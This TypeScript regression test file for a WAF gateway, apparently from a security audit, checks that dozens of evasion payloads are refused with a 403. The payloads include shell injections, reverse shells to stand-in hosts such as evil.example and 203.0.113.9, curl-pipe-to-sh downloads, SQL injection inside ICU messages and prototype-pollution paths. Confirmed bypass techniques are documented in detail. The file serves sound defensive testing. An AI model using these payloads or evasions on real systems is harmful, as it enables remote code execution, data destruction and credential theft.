// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 20 (round 13 of the WAF evasion audit): commit 5b2f936's API profile, aimed at what no audit had examined
 * closely: view.ts linksAsWords (URLs in prose as one word for family `c`), icuAsWords (ICU MessageFormat arguments
 * as words in the prose view), reachableLines + unreachableInQuotes (a line that opens a parenthesis ends a POSIX
 * script), markdownLayoutAsWords, and rules.ts COMMAND_PREFIX (90111, 90135, 90137, 90139).
 * Against the `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a
 * recording upstream, over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream
 * never sees it. The techniques that got through are in the audit's report, not here. `/crs/*` (PL1) and `/crs2/*`
 * (PL2) run the plain CRS profile.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);
/** A POST of a benign JSON body with one extra request header (name, value). */
const hdr = (name: string, value: string): Buffer =>
  req('POST', '/x', [...JSON_CT, [name, value]], J({ name: 'ok' }));

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** The address a ping form expects, before the injected command. */
const IP = '127.0.0.1';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // (1) linksAsWords: a URL is one plain word, but fetchers, launchers and pipes into a shell keep the rules.
  {
    name: 'links: a prose line with a URL, then wget2 and sh of the download',
    build: () => json('note', 'Ok ; wget2 https://evil.example/x.sh ; sh x.sh'),
  },
  {
    name: 'links: curl.exe of a URL piped to bash -',
    build: () => json('note', 'Ok ; curl.exe https://evil.example/x.sh | bash -'),
  },
  {
    name: 'links: GET (libwww) of a URL piped to sh -',
    build: () => json('note', 'Ok ; GET https://evil.example/x.sh | sh -'),
  },
  {
    name: 'links: a bare URL piped to sh -',
    build: () => json('note', 'see https://evil.example/x.sh | sh -'),
  },
  {
    name: 'links: a bare URL, then sh x.sh on the next line',
    build: () => json('note', 'see https://evil.example/x.sh\nsh x.sh'),
  },
  {
    name: 'links: a markdown link, then ; bash -',
    build: () => json('note', 'Check [docs](https://evil.example/a?x=1) ; bash -'),
  },
  // (2) icuAsWords: ICU arguments are words, but SQL inside sub-messages is still judged.
  {
    name: "icu: a plural sub-message holding ' or 1=1#",
    build: () => json('q', "You have {count, plural, one {' or 1=1#} other {x}}"),
  },
  { name: "icu: a select-like sub-message holding ' or 1=1#", build: () => json('q', "x {' or 1=1#}") },
  { name: "icu: an other sub-message holding '||1#", build: () => json('q', "Hi {name} other {'||1#}") },
  { name: "icu: an other sub-message holding ' or 1#", build: () => json('q', "Hi {name}, other {' or 1#}") },
  {
    name: 'icu: union select in a plural sub-message',
    build: () => json('q', "Messages for {n, plural, other {' union select password from users#}}"),
  },
  {
    name: 'icu: sleep() in an other sub-message',
    build: () => json('q', "Orders of {name} other {' and sleep(5)#}"),
  },
  { name: 'icu: /**/or/**/ in a sub-message', build: () => json('q', "{a} {b} x {'/**/or/**/1#}") },
  {
    name: 'icu: a stacked drop table in a sub-message',
    build: () => json('q', "note {';drop table users#}"),
  },
  { name: "icu: admin'-- before an argument (CRS PL1 passes it)", build: () => json('user', "admin'-- {x}") },
  // (3) reachableLines: a function definition `f ()` is no syntax error, so the lines after it are judged.
  { name: 'reachable: f () { id } f (CRS PL1 passes it)', build: () => json('note', 'f ()\n{\nid\n}\nf') },
  {
    name: 'reachable: f () { cat /etc/passwd } f',
    build: () => json('note', 'f ()\n{\ncat /etc/passwd\n}\nf'),
  },
  { name: 'reachable: f () { rm -rf ~ } f', build: () => json('note', 'f ()\n{\nrm -rf ~\n}\nf') },
  {
    name: 'reachable: Report () { whoami } Report',
    build: () => json('note', 'Report ()\n{\nwhoami\n}\nReport'),
  },
  {
    name: 'reachable: a title with a parenthesis, then id (CRS PL1 and PL2 pass it)',
    build: () => json('note', 'Notes (draft)\nid'),
  },
  {
    name: 'reachable: after an address, f () { id } f',
    build: () => json('host', `${IP}\nf ()\n{\nid\n}\nf`),
  },
  { name: 'reachable: f () ( id ) f, a subshell body', build: () => json('note', 'f ()\n(\nid\n)\nf') },
  { name: 'reachable: f () ( uname -a ) f', build: () => json('note', 'f ()\n(\nuname -a\n)\nf') },
  { name: 'reachable: f () { sleep 10 } f', build: () => json('note', 'f ()\n{\nsleep 10\n}\nf') },
  {
    name: 'reachable: f () { nc -e /bin/sh … } f',
    build: () => json('note', 'f ()\n{\nnc -e /bin/sh evil.example 4444\n}\nf'),
  },
  {
    name: 'reachable: f () { curl … } f | sh',
    build: () => json('note', 'f ()\n{\ncurl -s https://evil.example/x.sh\n}\nf | sh'),
  },
  {
    name: 'reachable: f () for … do id done',
    build: () => json('note', 'f ()\nfor x in 1\ndo\nid\ndone\nf'),
  },
  {
    name: 'reachable: f () { bash -i >& /dev/tcp/… } f',
    build: () => json('note', 'f ()\n{\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n}\nf'),
  },
  {
    name: 'reachable: f () { cat .env } f (CRS PL1 passes it)',
    build: () => json('note', 'f ()\n{\ncat .env\n}\nf'),
  },
  { name: 'reachable: f () { uname -a } f', build: () => json('note', 'f ()\n{\nuname -a\n}\nf') },
  // (4) COMMAND_PREFIX with options on the prefix (90111, 90135, 90137, 90139).
  { name: 'prefix: ;nice -n 5 rm -rf ~', build: () => json('host', `${IP};nice -n 5 rm -rf ~`) },
  { name: 'prefix: ;nice -n5 rm -rf ~', build: () => json('host', `${IP};nice -n5 rm -rf ~`) },
  { name: 'prefix: ;env -i rm -rf ~', build: () => json('host', `${IP};env -i rm -rf ~`) },
  { name: 'prefix: ;env -- rm -rf ~', build: () => json('host', `${IP};env -- rm -rf ~`) },
  { name: 'prefix: ;command -p rm -rf ~', build: () => json('host', `${IP};command -p rm -rf ~`) },
  { name: 'prefix: ;setsid rm -rf ~', build: () => json('host', `${IP};setsid rm -rf ~`) },
  { name: 'prefix: ;stdbuf -o0 rm -rf ~', build: () => json('host', `${IP};stdbuf -o0 rm -rf ~`) },
  { name: 'prefix: ;env -i id', build: () => json('host', `${IP};env -i id`) },
  { name: 'prefix: ;setsid id', build: () => json('host', `${IP};setsid id`) },
  { name: '$0: ;env -i $0 -c id', build: () => json('host', `${IP};env -i $0 -c id`) },
  { name: '$0: ;exec -a x $0 -c id', build: () => json('host', `${IP};exec -a x $0 -c id`) },
  { name: '$0: ;setsid $0 -c id', build: () => json('host', `${IP};setsid $0 -c id`) },
  {
    name: 'prefix: ;env -i rm -rf ~ in a query parameter',
    build: () => get(`/api/ping?host=${E(`${IP};env -i rm -rf ~`)}`),
  },
  // (5) 90137: dot-file names built by expansions.
  { name: 'dot-file: ;cat${IFS}.env', build: () => json('host', `${IP};cat\${IFS}.env`) },
  { name: 'dot-file: ;cat $(printf %s .e nv)', build: () => json('host', `${IP};cat $(printf %s .e nv)`) },
  { name: 'dot-file: ;cat .e${9}nv', build: () => json('host', `${IP};cat .e\${9}nv`) },
  // (6) Shell-expansion spellings and prototype paths that are still refused.
  {
    name: "markdown: admin' then a heading line (MySQL # comment)",
    build: () => json('user', "admin'\n# x"),
  },
  {
    name: "markdown: admin' then a ## heading",
    build: () => json('user', "admin'\n## Notes for the driver"),
  },
  { name: "markdown: admin' -- then a heading", build: () => json('user', "admin' -- \n# x") },
  {
    name: ';n$@c -e /bin/sh … (an empty $@ in netcat)',
    build: () => json('host', `${IP};n$@c -e /bin/sh 203.0.113.9 4444`),
  },
  { name: '$0: ;$0 -$@c id', build: () => json('host', `${IP};$0 -$@c id`) },
  { name: 'dot-file: ;cat .git-credential$@s', build: () => json('host', `${IP};cat .git-credential$@s`) },
  { name: 'dot-file: ;time -p cat .env', build: () => json('host', `${IP};time -p cat .env`) },
  { name: ';rm -rf ~$@', build: () => json('host', `${IP};rm -rf ~$@`) },
  {
    name: 'proto path: [__proto__, isAdmin] after a member named "path.0"',
    build: () => doc({ 'path.0': 'x', path: ['__proto__', 'isAdmin'], v: true }),
  },
  {
    name: 'proto path: [constructor, prototype, isAdmin] before a member named "path.1"',
    build: () => doc({ path: ['constructor', 'prototype', 'isAdmin'], 'path.1': 'x' }),
  },
];

function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

// Audit 20's bypasses, each confirmed against dash/bash, Node or MariaDB at the time (200, the upstream received
// it), closed the same session: refused now. Not here: a line that ends in a quote followed by a `# ` line
// (`Notes for the driver'⏎# Load list`: MySQL reads the `#` as a comment), which plain CRS PL1 passes too.
// Audit 20's bypasses of the API profile (route `/*`, CRS v4.28.0 PL1 blocking, commit 5b2f936), each answered 200
// by the gateway and received by the upstream. Same shapes as test/integration/audit20-waf-evasion.test.ts (json,
// doc, hdr, IP, J, Case, H2_POST). IP = '127.0.0.1'.
// "Confirmed" (shell) means: the value interpolated into `sh -c "echo log $v"` in a throwaway directory with a fake
// $HOME, a fake .env and ~/.ssh/id_rsa, and a fake `curl` first on PATH, under dash 0.5 and bash 5 (`rm -rf ~`
// deleted the fake $HOME; `id` printed uid=0; `whoami` printed root; `cat` printed the secret; the fake curl ran and
// its output was run by sh).

const BYPASS_CASES: readonly Case[] = [
  // B1 (RCE; CRS PL1 AND PL2 pass all). An empty expansion `$@` (no positional parameters under `sh -c`) inside a
  // word is removed by the shell: `cu$@rl` runs curl, `$0$@` is `$0`. HEADER_COMMAND (90119) wants `curl`/`wget`
  // spelled out (quote removal is modelled, `$@` is not), INTERPRETER_ONE_LINER (90135) wants `$0`/`${0}` followed
  // by options or `<<<`, SEPARATED_PROBE (90111) wants the probe's name. In headers CRS reads none of it at PL2.
  // Confirmed: dash and bash ran the fake curl and piped its output to sh (uid=0), and ran `$0 -c id` (uid=0).
  {
    name: 'B1 X-Debug: x;cu$@rl …|sh (an empty $@ inside the fetcher; CRS PL2 passes)',
    build: () => hdr('X-Debug', 'x;cu$@rl 203.0.113.9/x.sh|sh'),
  },
  { name: 'B1b X-Debug: x;$0$@ -c id (CRS PL2 passes)', build: () => hdr('X-Debug', 'x;$0$@ -c id') },
  { name: 'B1c X-Debug: x;i$@d (CRS PL2 passes)', build: () => hdr('X-Debug', 'x;i$@d') },
  {
    name: "B1d ;$0$@ +x -c 'rm -rf ~' in a body field (CRS PL2 passes)",
    build: () => json('host', `${IP};$0$@ +x -c 'rm -rf ~'`),
  },

  // B2 (RCE; CRS PL1 and PL2 pass both). PREFIX_WORD (rules.ts COMMAND_PREFIX, used by 90111/90135/90137/90139) takes
  // `time` only directly before the command; POSIX `time -p` (an option; dash runs /usr/bin/time, bash its keyword)
  // puts a word between, so 90135 never sees `$0 -c`, nor 90111 the probe. Confirmed: dash and bash printed uid=0.
  {
    name: 'B2 ;time -p $0 -c id (an option after time; CRS PL2 passes)',
    build: () => json('host', `${IP};time -p $0 -c id`),
  },
  {
    name: 'B2b X-Debug: x;time -p $0 -c id (CRS PL2 passes)',
    build: () => hdr('X-Debug', 'x;time -p $0 -c id'),
  },
  { name: 'B2c ;time -p id (CRS PL2 passes)', build: () => json('host', `${IP};time -p id`) },
  { name: 'B2d X-Debug: x;time -p id (CRS PL2 passes)', build: () => hdr('X-Debug', 'x;time -p id') },

  // B3 (prototype pollution; CRS PL1 and PL2 pass both). prototypePathArgs (expand.ts) keeps the FIRST argument of
  // each name (byName); a member literally named "path.1" placed before the array makes `json.path.1` = "x", so the
  // element "prototype" is never joined and `constructor.prototype.isAdmin` is never built (after the array it is
  // refused; `"path.1.0"` works too: `.0` suffixes collapse). JSON.parse keeps body.path as the array. Confirmed in
  // Node 24: a naive `set({}, body.path, body.v)` (`t = t[k] ??= {}`) made `({}).isAdmin === true`, both forms.
  {
    name: 'B3 a member named "path.1" BEFORE path [constructor, prototype, isAdmin] (first argument of a name wins)',
    build: () => doc({ 'path.1': 'x', path: ['constructor', 'prototype', 'isAdmin'], v: true }),
  },
  {
    name: 'B3b a member named "path.1.0" before the path',
    build: () => doc({ 'path.1.0': 'x', path: ['constructor', 'prototype', 'isAdmin'], v: true }),
  },

  // B4 (destruction / RCE / probes; CRS PL1 passes, PL2 refuses). The same `$@` inside the command word in bodies:
  // 90139 PREFIXED_DESTRUCTIVE, 90111 SEPARATED_PROBE and 90119 never match `r$@m`, `i$@d`, `who$@ami`, `c$@url`, and
  // CRS PL1's 932 rules miss them. Confirmed: dash and bash deleted the fake $HOME, printed uid=0 / root.
  { name: 'B4 ;r$@m -rf ~ (an empty $@ inside rm)', build: () => json('host', `${IP};r$@m -rf ~`) },
  {
    name: 'B4b report.pdf;r$@m -rf ~ in a file name field',
    build: () => json('name', 'report.pdf;r$@m -rf ~'),
  },
  { name: 'B4c ;i$@d', build: () => json('host', `${IP};i$@d`) },
  { name: 'B4d |i$@d', build: () => json('host', `${IP}|i$@d`) },
  { name: 'B4e ⏎i$@d', build: () => json('host', `${IP}\ni$@d`) },
  { name: 'B4f prose line, then i$@d', build: () => json('note', 'Build failed at step two\ni$@d') },
  { name: 'B4g ;who$@ami', build: () => json('host', `${IP};who$@ami`) },
  { name: 'B4h ;$0$@ -c id', build: () => json('host', `${IP};$0$@ -c id`) },
  { name: 'B4i ;c$@url -s …|sh', build: () => json('host', `${IP};c$@url -s 203.0.113.9/x.sh|sh`) },

  // B5 (secrets disclosure; CRS PL1 passes, PL2 refuses). DOTFILE_READ (90137) matches the secret's name literally,
  // with shell quoting removed, or a glob spelling; an empty `$@`/`$*` inside the name is removed by the shell
  // (`${9}` is refused). Confirmed: dash and bash printed the .env and ~/.ssh-style id_rsa.
  {
    name: 'B5 ;cat .e$@nv (an empty $@ inside the dot-file name)',
    build: () => json('host', `${IP};cat .e$@nv`),
  },
  { name: 'B5b ;cat .e$*nv', build: () => json('host', `${IP};cat .e$*nv`) },
  { name: 'B5c ;cat ./.e$@nv', build: () => json('host', `${IP};cat ./.e$@nv`) },
  { name: 'B5d ;cat .ss$@h/id_rsa', build: () => json('host', `${IP};cat .ss$@h/id_rsa`) },
  {
    name: 'B5e report.pdf;cat .e$@nv in a file name field',
    build: () => json('name', 'report.pdf;cat .e$@nv'),
  },

  // B6 (destruction; CRS PL1 passes, PL2 refuses). PREFIX_WORD's `time` without options (B2): `time -p rm`,
  // `time -p -- rm`, bash's `time -p ! rm` never reach 90139. Confirmed: dash and bash deleted the fake $HOME
  // (`time -p ! rm` in bash only).
  {
    name: 'B6 ;time -p rm -rf ~ (an option after time)',
    build: () => json('host', `${IP};time -p rm -rf ~`),
  },
  { name: 'B6b ;time -p -- rm -rf ~', build: () => json('host', `${IP};time -p -- rm -rf ~`) },
  { name: 'B6c ;time -p ! rm -rf ~ (bash)', build: () => json('host', `${IP};time -p ! rm -rf ~`) },

  // B8 (secrets, bash only; CRS PL1 passes, PL2 refuses). DOTFILE_READ wants whitespace or `<>/='"~` right before
  // the dot; bash brace expansion `{.env,}` puts `{` there (dash has none). Confirmed: bash printed the .env.
  {
    name: 'B8 ;cat {.env,} (bash brace expansion before the dot)',
    build: () => json('host', `${IP};cat {.env,}`),
  },

  // B9 (RCE through installers; CRS PL1 passes, PL2 refuses). NOT EXECUTED (no network here): the tools' documented
  // behaviour; the gateway's 200 and the upstream's receipt were observed. linksAsWords (view.ts) makes a bare URL
  // one plain word for family `c` (waiving CRS 9321xx–9323xx) unless the command's lower-cased name is in
  // NETWORK_TOOLS: versioned or other installers that fetch and run code are not (`pip3.12`/`pip3.11` run an sdist's
  // setup.py, `cpanm` runs Makefile.PL, `luarocks install` a rockspec's build, `uvx`, `deno <url>` remote code).
  {
    name: 'B9 Ok ; pip3.12 install https://…/pkg.tar.gz',
    build: () => json('note', 'Ok ; pip3.12 install https://evil.example/pkg.tar.gz'),
  },
  {
    name: 'B9b 127.0.0.1 ; pip3.12 install https://…',
    build: () => json('host', `${IP} ; pip3.12 install https://evil.example/pkg.tar.gz`),
  },
  {
    name: 'B9c ok & pip3.12 install https://…',
    build: () => json('note', 'ok & pip3.12 install https://evil.example/pkg.tar.gz'),
  },
  {
    name: 'B9d Ok ; pip3.11 install https://…',
    build: () => json('note', 'Ok ; pip3.11 install https://evil.example/pkg.tar.gz'),
  },
  {
    name: 'B9e Ok ; cpanm https://…/Evil-1.0.tar.gz',
    build: () => json('note', 'Ok ; cpanm https://evil.example/Evil-1.0.tar.gz'),
  },
  {
    name: 'B9f Ok ; luarocks install https://…/x.rockspec',
    build: () => json('note', 'Ok ; luarocks install https://evil.example/x.rockspec'),
  },
  { name: 'B9g Ok ; uvx https://…/x.whl', build: () => json('note', 'Ok ; uvx https://evil.example/x.whl') },
  { name: 'B9h Ok ; deno https://…/x.ts', build: () => json('note', 'Ok ; deno https://evil.example/x.ts') },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'f () { id } f', headers: H2_POST, body: J({ note: 'f ()\n{\nid\n}\nf' }) },
  {
    name: 'a URL piped to sh -',
    headers: H2_POST,
    body: J({ note: 'see https://evil.example/x.sh | sh -' }),
  },
  { name: ';env -i rm -rf ~', headers: H2_POST, body: J({ host: `${IP};env -i rm -rf ~` }) },
  { name: "icu sub-message ' or 1=1#", headers: H2_POST, body: J({ q: "x {' or 1=1#}" }) },
  {
    name: 'query parameter: ;setsid id',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};setsid id`)}` },
  },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'B1 over h2',
    headers: { ...H2_POST, 'x-debug': 'x;cu$@rl 203.0.113.9/x.sh|sh' },
    body: J({ name: 'ok' }),
  },
  { name: 'B2 over h2', headers: H2_POST, body: J({ host: `${IP};time -p $0 -c id` }) },
  {
    name: 'B3 over h2',
    headers: H2_POST,
    body: J({ 'path.1': 'x', path: ['constructor', 'prototype', 'isAdmin'], v: true }),
  },
  { name: 'B4 over h2', headers: H2_POST, body: J({ host: `${IP};r$@m -rf ~` }) },
  { name: 'B5 over h2', headers: H2_POST, body: J({ host: `${IP};cat .e$@nv` }) },
];

describe(
  'audit20: WAF evasions of commit 5b2f936 (links as words, ICU arguments, reachable lines, command prefixes with options, dot-file expansions) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit20-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('note', 'the link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken'),
        json('msg', 'You have {count, plural, one {# new message} other {# new messages}} from {name}'),
        json('note', '### Load notes\n| Weight | 42,500 lb |\n|---|---|\n| Pallets | 26 |'),
        hdr('X-Client-Note', 'checkout flow, step 2 of 3'),
        json(
          'note',
          'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: id',
        ),
        doc({ path: ['profile', 'settings', 'theme'] }),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
